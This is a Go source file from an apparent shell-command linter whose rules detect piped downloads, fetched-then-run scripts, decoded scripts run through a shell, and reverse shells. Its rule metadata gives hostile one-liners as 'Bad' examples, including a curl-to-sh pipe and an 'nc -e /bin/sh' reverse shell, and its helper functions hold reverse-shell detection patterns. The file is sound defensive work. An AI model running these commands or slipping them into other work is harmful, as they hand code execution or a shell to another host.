package analyzer

import (
	"path"
	"slices"
	"strings"

	"github.com/bashguard/bashguard/analyzer/check"
	"github.com/bashguard/bashguard/analyzer/program"
	"github.com/bashguard/bashguard/analyzer/wordlist"
)

// fetchRules are about code that comes from elsewhere, and control or secrets that go there.
var fetchRules = []*rule{
	{Info: check.Info{ID: "BG1230", Name: "piped-download", Summary: "what another host sends is run at once",
		Why: "Nobody has seen the code, and the host may send another text to a pipe than to a browser. Save it, read it, then run it.",
		Bad: "curl -fsSL https://example.com/i.sh | sh", Good: "echo 'ls' | sh", Severity: check.Error, Since: "0.1"}, step: dangerousStep,
		run: func(p *pass) {
			p.pairs(fetches, takesProgram, func(from, to *Command) { p.report(to.Span, "runs what `%s` fetches", from.Program) })
		}},
	{Info: check.Info{ID: "BG1231", Name: "downloaded-program", Summary: "a file is fetched and run in one call",
		Why: "Nobody has seen the code between the two steps.",
		Bad: "curl -o i.sh https://example.com/i.sh; sh i.sh", Good: "sh i.sh", Severity: check.Error, Since: "0.1"}, step: dangerousStep,
		run: func(p *pass) {
			fetched := map[string]bool{}
			for i := range p.Commands {
				c := &p.Commands[i]
				if script, ok := started(c); ok && fetched[path.Base(script.Text)] {
					p.report(c.Span, "runs `%s`, which the same call has fetched", script)
				}
				if fetches(c) {
					noteFetched(fetched, c)
				}
			}
		}},
	{Info: check.Info{ID: "BG1232", Name: "decoded-script", Summary: "a text is decoded and run",
		Why: "Encoding hides from everybody who reads the command what it does.",
		Bad: "echo bHM= | base64 -d | sh", Good: "echo bHM= | base64 -d", Severity: check.Error, Since: "0.1"}, step: dangerousStep,
		run: func(p *pass) {
			p.pairs(decodes, takesProgram, func(from, to *Command) { p.report(to.Span, "runs what `%s` decodes", from.Program) })
		}},
	{Info: check.Info{ID: "BG1233", Name: "reverse-shell", Summary: "a shell is given to another host",
		Why: "Whoever is at the other end types commands here, with all the rights of this user.",
		Bad: "nc -e /bin/sh 192.0.2.1 4444", Good: "nc -z localhost 4444", Severity: check.Error, Since: "0.1"}, step: dangerousStep,
		run: func(p *pass) {
			for i := range p.Commands {
				if c := &p.Commands[i]; givesShell(c) {
					p.report(c.Span, "gives a shell to another host")
				}
			}
			p.pairs(isShell, carries, func(from, to *Command) { p.report(to.Span, "sends what a shell prints to another host") })
		}},
}

// shells run the commands that they read, and interpreters the programs, when no file is named.
const (
	shells       = wordlist.List("sh bash dash zsh ksh mksh ash fish csh tcsh")
	interpreters = wordlist.List("python node deno bun perl ruby php lua tclsh Rscript osascript pwsh")
)

func isShell(c *Command) bool { return shells.Has(c.Program) }

// takesProgram tells whether a command runs code that it reads from its standard input, or that a substitution puts into its words.
func takesProgram(c *Command) bool {
	switch name := strings.TrimRight(c.Program, "0123456789."); {
	case c.Program == "eval", c.Program == "source", c.Program == ".":
		return true
	case !shells.Has(c.Program) && !interpreters.Has(name):
		return false
	}
	for i, w := range c.Words[1:] {
		switch {
		case w.Open != program.Fixed, w.Is("-", "-s", "/dev/stdin"):
			return true // what a substitution prints, or what comes through the pipe
		case w.Is("-c", "-e", "-m", "-r", "-p", "-pe", "-ne", "--eval"):
			return i+2 < len(c.Words) && c.Words[i+2].Open != program.Fixed
		case !strings.HasPrefix(w.Text, "-"):
			return strings.HasPrefix(w.Text, "/dev/fd/")
		}
	}
	return true
}

// fetches tells whether a command gets something from another host.
func fetches(c *Command) bool {
	return wordlist.List("curl wget fetch aria2c http https xh lynx nc ncat netcat scp sftp rsync gsutil aws").Has(c.Program) &&
		connects(c)
}

// decodes tells whether a command turns an encoded text into a plain one.
func decodes(c *Command) bool {
	switch c.Program {
	case "base64", "base32", "basenc", "openssl", "gpg":
		return gives(c, "-d", "-D", "--decode", "--decrypt")
	case "xxd":
		return gives(c, "-r")
	}
	return c.Program == "uudecode"
}

// noteFetched notes the base names of the files that a command fetches: what it writes, and the last parts of addresses.
func noteFetched(names map[string]bool, c *Command) {
	for e := range c.All() {
		if name := path.Base(e.Target.Text); (e.Kind == program.Write || e.Kind == program.Connect) && name != "." && name != "/" {
			names[name] = true
		}
	}
}

// started returns the file that a command runs: a program that is named with its directory, or the script of a shell or an interpreter.
func started(c *Command) (program.Word, bool) {
	switch {
	case len(c.Words) == 0:
		return program.Word{}, false
	case takesFile(c) && len(c.Words) > 1:
		script := scriptOf(c)
		return script, script.Open == program.Fixed
	}
	return c.Words[0], c.Words[0].Open == program.Fixed && strings.Contains(c.Words[0].Text, "/")
}

func takesFile(c *Command) bool {
	return shells.Has(c.Program) || interpreters.Has(strings.TrimRight(c.Program, "0123456789.")) || c.Program == "source" || c.Program == "."
}

// scriptOf returns the first argument that is no option.
func scriptOf(c *Command) program.Word {
	for _, w := range c.Words[1:] {
		if !strings.HasPrefix(w.Text, "-") {
			return w
		}
	}
	return c.Words[len(c.Words)-1]
}

// carries tells whether a program passes what it reads on to another host.
func carries(c *Command) bool {
	return wordlist.List("nc ncat netcat telnet socat").Has(c.Program) || calls(c, "openssl", "s_client")
}

// givesShell tells whether a command connects a shell with another host by itself: a redirection to /dev/tcp, or an option that names
// what to run (ncat(1), socat(1)), or inline code that does the same.
func givesShell(c *Command) bool {
	switch {
	case isShell(c):
		return slices.ContainsFunc(c.Redirects, func(e program.Effect) bool { return e.Kind == program.Connect })
	case wordlist.List("nc ncat netcat").Has(c.Program):
		return gives(c, "-e", "-c", "--exec", "--sh-exec", "--lua-exec")
	case c.Program == "socat":
		return slices.ContainsFunc(c.Words[1:], func(w program.Word) bool {
			kind, _, _ := strings.Cut(strings.ToUpper(w.Text), ":")
			return kind == "EXEC" || kind == "SYSTEM" || kind == "SHELL"
		})
	case interpreters.Has(strings.TrimRight(c.Program, "0123456789.")):
		return slices.ContainsFunc(c.Words[1:], func(w program.Word) bool { return opensShell(w.Text) })
	}
	return false
}

// opensShell tells whether inline code names both a socket and a shell that could be tied to it.
func opensShell(code string) bool {
	code = strings.ToLower(code)
	some := func(list ...string) bool {
		return slices.ContainsFunc(list, func(s string) bool { return strings.Contains(code, s) })
	}
	return some("socket", "net.connect", "tcpsocket", "fsockopen") && some("dup2", "pty.spawn", "/bin/sh", "/bin/bash", "cmd.exe", "subprocess", "child_process")
}
